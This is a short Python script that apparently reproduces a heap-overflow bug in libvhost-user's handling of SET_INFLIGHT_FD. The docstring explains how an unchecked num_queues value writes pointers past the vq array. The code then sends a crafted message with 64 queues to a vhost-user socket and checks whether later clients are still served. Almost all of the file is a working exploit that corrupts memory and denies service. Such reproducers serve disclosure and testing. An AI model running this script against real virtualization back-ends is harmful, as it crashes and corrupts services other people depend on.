#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SET_INFLIGHT_FD with num_queues larger than the device's queue count.

libvhost-user's vu_set_inflight_fd() maps the front-end's memfd and then
    for (i = 0; i < num_queues; i++) {
        dev->vq[i].inflight = (VuVirtqInflight *)rc;
        dev->vq[i].inflight->desc_num = queue_size;
        ...
with num_queues from the message (u16) and no check against
dev->max_queues: pointers written past the end of the heap-allocated vq
array.  The message is accepted although the back-end never offered
VHOST_USER_PROTOCOL_F_INFLIGHT_SHMFD.  glibc later notices the smashed heap
("malloc(): unsorted double linked list corrupted", "corrupted size vs.
prev_size", ...) when the connection is torn down or the next one set up.

usage: repro_inflight_queues.py SOCKET
"""
import os
import struct

from _common import args, say, vuattack as vu

sock, = args(1)
NQ, QS = 64, 16
per_queue = (16 * QS + 2 + 63) // 64 * 64     # vu_inflight_queue_size(QS)
size = per_queue * NQ
fd = os.memfd_create("inflight")
os.ftruncate(fd, size)
c = vu.Conn(sock, timeout=3)
c.negotiate()
say("device has %d queue(s); offered protocol features %#x (bit 12 INFLIGHT_SHMFD: %s)" % (
    c.queue_num(), c.offered_protocol, bool(c.offered_protocol >> 12 & 1)))
payload = struct.pack("<QQHHxxxx", size, 0, NQ, QS)
try:
    rp, _ = c.call(vu.SET_INFLIGHT_FD, payload, [fd], ack=True)
    say("SET_INFLIGHT_FD num_queues=%d queue_size=%d -> ack %d (0 = accepted)" % (
        NQ, QS, struct.unpack("<Q", rp[:8])[0]))
except (vu.Closed, vu.Timeout) as e:
    say("SET_INFLIGHT_FD -> %s: %s" % (type(e).__name__, e))
c.close()
# The next connection runs vu_deinit/vu_init over the smashed heap.
for i in range(3):
    ok, why = vu.serves(sock, 3)
    say("honest client %d: %s" % (i + 1, why))
